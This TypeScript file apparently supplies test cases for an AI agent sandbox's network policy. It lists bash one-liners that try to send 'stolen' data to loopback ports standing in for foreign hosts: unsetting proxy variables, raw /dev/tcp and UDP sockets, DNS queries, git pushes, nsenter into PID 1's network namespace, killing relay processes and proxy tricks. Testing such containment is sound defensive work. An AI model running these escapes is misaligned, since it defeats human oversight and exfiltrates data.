/** Ports of the machine's own servers, which represent foreign hosts, and the only host in the policy. */
export type NetworkPorts = {
  readonly foreign: number;
  /** A port on IPv6. */
  readonly foreign6: number;
  /** A UDP port, like a name server's. */
  readonly names: number;
  readonly allowed: number;
};

/** Removes every variable by which a program finds the proxy. */
const UNSET = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY NODE_USE_ENV_PROXY YARN_HTTP_PROXY YARN_HTTPS_PROXY";

/** Returns a Node program that sends this text to a port of an address. */
const sendByNode = (host: string, port: number): string =>
  `"${process.execPath}" -e 'require("node:net").connect(${port}, "${host}").on("error", () => {}).end("GET /stolen HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n")'`;

/**
 * Lists an agent's attempts to reach a host outside of its policy, as bash scripts. Every attempt stops where the agent's traffic is cut off.
 */
export const listNetworkAttempts = ({ foreign, foreign6, names, allowed }: NetworkPorts): Readonly<Record<string, string>> => ({
  "curl without its proxy": `curl -s -m 2 --noproxy '*' http://127.0.0.1:${foreign}/stolen`,
  "curl without the variables": `${UNSET}; curl -s -m 2 http://127.0.0.1:${foreign}/stolen`,
  "curl with no_proxy for all hosts": `no_proxy='*' NO_PROXY='*' curl -s -m 2 http://127.0.0.1:${foreign}/stolen`,
  "curl with an empty environment": `env -i curl -s -m 2 http://127.0.0.1:${foreign}/stolen`,
  "a bare TCP connection": `exec 3<>/dev/tcp/127.0.0.1/${foreign} && printf 'GET /stolen HTTP/1.0\\r\\n\\r\\n' >&3`,
  "a bare TCP connection by Node": sendByNode("127.0.0.1", foreign),
  "a bare TCP connection to another loopback address": sendByNode("127.7.7.7", foreign),
  "a bare TCP connection over IPv6": sendByNode("::1", foreign6),
  "curl over IPv6": `curl -g -s -m 2 --noproxy '*' 'http://[::1]:${foreign6}/stolen'`,
  "a question to a name server": `printf '\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4test\\0\\0\\1\\0\\1' > /dev/udp/127.0.0.1/${names}`,
  "a datagram by Node": `"${process.execPath}" -e 'const s = require("node:dgram").createSocket("udp4"); s.send("stolen", ${names}, "127.0.0.1", () => s.close())'`,
  "a push by git over SSH": `GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o ConnectTimeout=2 -p ${foreign}' git push ssh://git@127.0.0.1/stolen HEAD`,
  "a push by git through a proxy command": `GIT_PROXY_COMMAND= git ls-remote git://127.0.0.1:${foreign}/stolen`,
  "a push by git over HTTP without its proxy": `git -c http.proxy= ls-remote http://127.0.0.1:${foreign}/stolen`,
  "another proxy": `curl -s -m 2 --noproxy '' -x http://127.0.0.1:${foreign} http://127.0.0.1:${allowed}/stolen`,
  "a network namespace of its own": `unshare --user --map-root-user --net sh -c "ip link set lo up; curl -s -m 2 --noproxy '*' http://127.0.0.1:${foreign}/stolen"`,
  "the network of the first process": `nsenter --target 1 --net curl -s -m 2 --noproxy '*' http://127.0.0.1:${foreign}/stolen`,
  "the network of its parent": `nsenter --target $PPID --net curl -s -m 2 --noproxy '*' http://127.0.0.1:${foreign}/stolen`,
  "a bare TCP connection after killing what relays": `for at in /proc/[0-9]*; do grep -qs 'net[w]ork-' $at/cmdline && kill -9 \${at#/proc/}; done; ${sendByNode("127.0.0.1", foreign)}`,
});

/** Lists ways through Enki's own proxy, which every machine refuses. */
export const listProxyAttempts = ({ foreign, foreign6 }: NetworkPorts): Readonly<Record<string, string>> => ({
  "the proxy, with a request": `curl -s -m 2 --noproxy '' -x "$http_proxy" http://127.0.0.1:${foreign}/stolen`,
  "the proxy, with a tunnel": `curl -s -m 2 --noproxy '' -p -x "$http_proxy" http://127.0.0.1:${foreign}/stolen`,
  "the proxy, with IPv6": `curl -g -s -m 2 --noproxy '' -p -x "$http_proxy" 'http://[::1]:${foreign6}/stolen'`,
  "the proxy, with a number as the address": `curl -s -m 2 --noproxy '' -p -x "$http_proxy" http://2130706433:${foreign}/stolen`,
  "the proxy, with another Host header": `curl -s -m 2 --noproxy '' -x "$http_proxy" -H 'host: 127.0.0.1:1' http://127.0.0.1:${foreign}/stolen`,
  "the proxy, with a name of loopback": `curl -s -m 2 --noproxy '' -p -x "$http_proxy" http://localhost:${foreign}/stolen`,
  "the proxy, twice": `curl -s -m 2 --noproxy '' --preproxy "$http_proxy" -p -x http://127.0.0.1:${foreign} http://127.0.0.1:${foreign}/stolen`,
});
